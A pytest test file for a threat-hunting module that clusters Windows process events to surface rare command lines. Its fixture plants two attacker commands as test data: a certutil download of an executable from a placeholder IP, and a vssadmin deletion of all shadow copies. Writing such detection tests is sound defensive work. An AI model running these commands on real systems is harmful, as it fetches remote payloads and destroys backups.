"""huntbook.cluster: density clustering of process events that surfaces the rare commands."""

from __future__ import annotations

import random
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import huntbook.cluster as cluster
from huntbook.errors import DataError

BENCH = Path(__file__).resolve().parents[2] / "shared" / "bench"
S32 = "C:\\Windows\\System32\\"
RARE = [
    (
        S32 + "certutil.exe",
        "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
    ),
    (S32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
]


def process_frame(n: int = 400, seed: int = 3, rare: bool = True) -> pd.DataFrame:
    """Common commands with varying numbers and service names, plus two rare attacker commands."""
    rng = random.Random(seed)
    rows = []
    for _ in range(n):
        kind = rng.randrange(4)
        if kind == 0:
            svc = rng.choice(["Schedule", "BITS", "Dnscache", "EventLog"])
            rows.append(
                (S32 + "svchost.exe", f"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s {svc}", "SRV01$")
            )
        elif kind == 1:
            rows.append(
                (
                    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                    f'"chrome.exe" --type=renderer --renderer-client-id={rng.randint(1, 999)}',
                    "jsmith",
                )
            )
        elif kind == 2:
            rows.append(
                (S32 + "PING.EXE", f"ping -n 1 10.0.{rng.randint(0, 255)}.{rng.randint(1, 254)}", "jsmith")
            )
        else:
            rows.append(
                (
                    S32 + "conhost.exe",
                    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                    "SYSTEM",
                )
            )
    if rare:
        rows.insert(n // 3, (*RARE[0], "jsmith"))
        rows.insert(2 * n // 3, (*RARE[1], "SRV01$"))
    return pd.DataFrame(rows, columns=["NewProcessName", "CommandLine", "SubjectUserName"])


def test_rare_commands_are_noise_and_variants_cluster() -> None:
    df = process_frame()
    out = cluster.events(df)
    rare_rows = out["CommandLine"].isin([cmd for _, cmd in RARE])
    assert (out.loc[rare_rows, "cluster"] == -1).all()
    assert (out.loc[~rare_rows, "cluster"] >= 0).all()
    # numbers and service names vary, the shapes do not: one cluster per kind of command
    for needle in ("chrome.exe", "PING.EXE", "svchost.exe", "conhost.exe"):
        assert out.loc[out["NewProcessName"].str.contains(needle, regex=False), "cluster"].nunique() == 1
    surfaced = cluster.rare(out)
    assert set(surfaced["CommandLine"]) == {cmd for _, cmd in RARE}


def test_cluster_size_counts_cluster_rows() -> None:
    out = cluster.events(process_frame(seed=9))
    clustered = out[out["cluster"] >= 0]
    sizes = clustered.groupby("cluster")["cluster_size"].agg(["first", "nunique", "size"])
    assert (sizes["nunique"] == 1).all()
    assert (sizes["first"] == sizes["size"]).all()
    # clusters are numbered by size, largest first
    assert sizes["size"].is_monotonic_decreasing


def test_eps_zero_only_groups_identical_shapes() -> None:
    df = process_frame(seed=4)
    out = cluster.events(df, eps=0.0, min_samples=2)
    feats = cluster.features(df)
    for _, rows in feats[out["cluster"] >= 0].groupby(out["cluster"]):
        assert len(rows.drop_duplicates()) == 1


def test_accounts_are_reduced_to_kinds() -> None:
    df = pd.DataFrame(
        {
            "CommandLine": ["whoami /all"] * 4,
            "SubjectUserName": ["SYSTEM", "WS01$", "jsmith", "NT AUTHORITY\\NETWORK SERVICE"],
        }
    )
    feats = cluster.features(df)
    assert feats["SubjectUserName"].tolist() == ["system", "system", "user", "system"]
    out = cluster.events(df, min_samples=2)
    assert out.loc[0, "cluster"] == out.loc[1, "cluster"] == out.loc[3, "cluster"]


def test_numbers_hex_and_guids_are_masked() -> None:
    df = pd.DataFrame(
        {
            "CommandLine": [
                "dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
                "dllhost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}",
                "conhost.exe 0xffffffff -ForceV1 12",
            ]
        }
    )
    feats = cluster.features(df)
    assert feats.loc[0, "CommandLine"] == feats.loc[1, "CommandLine"] == "dllhost.exe /processid:<guid>"
    assert feats.loc[2, "CommandLine"] == "conhost.exe <hex> -forcev0 0"


def test_asim_columns_are_inferred() -> None:
    df = process_frame().rename(
        columns={
            "NewProcessName": "TargetProcessName",
            "CommandLine": "TargetProcessCommandLine",
            "SubjectUserName": "ActorUsername",
        }
    )
    out = cluster.events(df)
    assert set(cluster.rare(out)["TargetProcessCommandLine"]) == {cmd for _, cmd in RARE}
    assert list(cluster.features(df).columns) == [
        "TargetProcessCommandLine",
        "TargetProcessName",
        "ActorUsername",
    ]


def test_input_unchanged_index_kept() -> None:
    df = process_frame().set_index(pd.RangeIndex(1000, 1402))
    before = df.copy(deep=True)
    out = cluster.events(df)
    pd.testing.assert_frame_equal(df, before)
    assert out.index.equals(df.index)
    assert list(out.columns) == [*df.columns, "cluster", "cluster_size"]


def test_bad_input() -> None:
    with pytest.raises(DataError, match="no command-line"):
        cluster.events(pd.DataFrame({"x": [1, 2]}))
    with pytest.raises(DataError, match="no column 'Nope'"):
        cluster.events(process_frame(), ["Nope"])
    with pytest.raises(DataError):
        cluster.events(process_frame(), eps=1.5)
    with pytest.raises(DataError):
        cluster.rare(process_frame())
    empty = cluster.events(process_frame().iloc[:0])
    assert empty.empty and "cluster" in empty.columns


def test_missing_values_are_a_value() -> None:
    df = process_frame(n=60)
    df.loc[5, "CommandLine"] = None
    out = cluster.events(df)
    assert out.loc[5, "cluster"] == -1


@settings(max_examples=25, deadline=None)
@given(st.integers(0, 10_000), st.floats(0.0, 0.8), st.integers(1, 8))
def test_row_order_does_not_matter(seed: int, eps: float, min_samples: int) -> None:
    df = process_frame(n=120, seed=seed)
    out = cluster.events(df, eps=eps, min_samples=min_samples)
    shuffled = df.sample(frac=1.0, random_state=seed % 97)
    again = cluster.events(shuffled, eps=eps, min_samples=min_samples).loc[df.index]
    np.testing.assert_array_equal(out["cluster_size"], again["cluster_size"])
    np.testing.assert_array_equal(out["cluster"] == -1, again["cluster"] == -1)
    # rows in one cluster stay together
    pairs = pd.crosstab(out["cluster"], again["cluster"])
    assert ((pairs > 0).sum(axis=1) == 1).all()


# ---------------------------------------------------------------- the benchmark generator and the demo


def test_planted_rows_of_the_benchmark_generator() -> None:
    if not (BENCH / "gen_workloads.py").is_file():
        pytest.skip(f"benchmark kit not found at {BENCH}")
    sys.path.insert(0, str(BENCH))
    try:
        import gen_workloads as gw
    finally:
        sys.path.remove(str(BENCH))
    data = gw.gen_cluster_events(20_000, n_planted=20)
    columns = {k: v for k, v in data["columns"].items() if k not in ("Planted", "TrueId", "TrueParentId")}
    out = cluster.events(pd.DataFrame(columns))
    surfaced = set(cluster.rare(out).index)
    planted = {i for i, p in enumerate(data["columns"]["Planted"]) if p}
    assert planted <= surfaced
    assert len(surfaced) < 100


@pytest.fixture(scope="module")
def demo_processes(tmp_path_factory: pytest.TempPathFactory) -> tuple[pd.DataFrame, dict[str, Any]]:
    import huntbook.demo as demo
    from huntbook.session import QueryProvider
    from huntbook.store import LocalStore

    root = tmp_path_factory.mktemp("cluster-demo")
    generated = demo.generate(root / "data")
    store = LocalStore(root / "store")
    store.ingest([root / "data"])
    frame = QueryProvider("local", store=store).exec_query("select * from process_events")
    return frame, generated["truth"]


def test_demo_attacker_commands_surface(demo_processes: tuple[pd.DataFrame, dict[str, Any]]) -> None:
    frame, truth = demo_processes
    surfaced = cluster.rare(cluster.events(frame))
    lines = set(surfaced["TargetProcessCommandLine"])
    assert truth["encoded_command_line"] in lines
    # the attacker's hands-on-keyboard commands in the compromised logon session: everything but the
    # session start (userinit, explorer) and the interactive cmd.exe, which every user runs too
    attacker = frame[frame["TargetUserSessionId"] == truth["logon_id"].lower()]
    hands_on = attacker[
        ~attacker["TargetProcessName"].str.lower().str.endswith(("userinit.exe", "explorer.exe", "cmd.exe"))
    ]
    assert len(hands_on) >= 6
    assert set(hands_on["TargetProcessCommandLine"]) <= lines
    # and the review stays short: at most a few dozen distinct command lines out of thousands
    assert len(lines) < 40 < frame["TargetProcessCommandLine"].nunique()


def test_chunked_candidate_pairs_give_the_same_clusters(monkeypatch: pytest.MonkeyPatch) -> None:
    df = process_frame(n=300, seed=12)
    whole = cluster.events(df, eps=0.6, min_samples=3)
    monkeypatch.setattr(cluster, "_CHUNK_PAIRS", 7)
    chunked = cluster.events(df, eps=0.6, min_samples=3)
    pd.testing.assert_frame_equal(whole, chunked)
    monkeypatch.setattr(cluster, "_CAP_PAIRS", 5)
    with pytest.raises(DataError, match="eps is too loose"):
        cluster.events(df, eps=0.6, min_samples=3)


def test_prefix_filter_finds_every_close_pair() -> None:
    """The inverted-index search returns exactly the pairs an all-pairs comparison finds."""
    df = process_frame(n=200, seed=13)
    _shape_of, counts, tokens = cluster._shapes(cluster.features(df), {"SubjectUserName"})
    for eps in (0.2, 0.4, 0.7):
        a, b, _ = cluster._neighbours(tokens, counts, 1 - eps)
        found = set(zip(a.tolist(), b.tolist(), strict=True))
        # brute force with the same IDF weights
        rows: dict[str, float] = {}
        for shape, ts in enumerate(tokens):
            for t in set(ts):
                rows[t] = rows.get(t, 0) + counts[shape]
        total = counts.sum()
        idf = {t: np.log((total + 1) / (r + 1)) + 1 for t, r in rows.items()}
        expected = set()
        for i in range(len(tokens)):
            for j in range(i + 1, len(tokens)):
                si, sj = set(tokens[i]), set(tokens[j])
                inter = sum(idf[t] for t in si & sj)
                union = sum(idf[t] for t in si | sj)
                if inter / union >= 1 - eps - 1e-12:
                    expected.add((i, j))
        assert found == expected
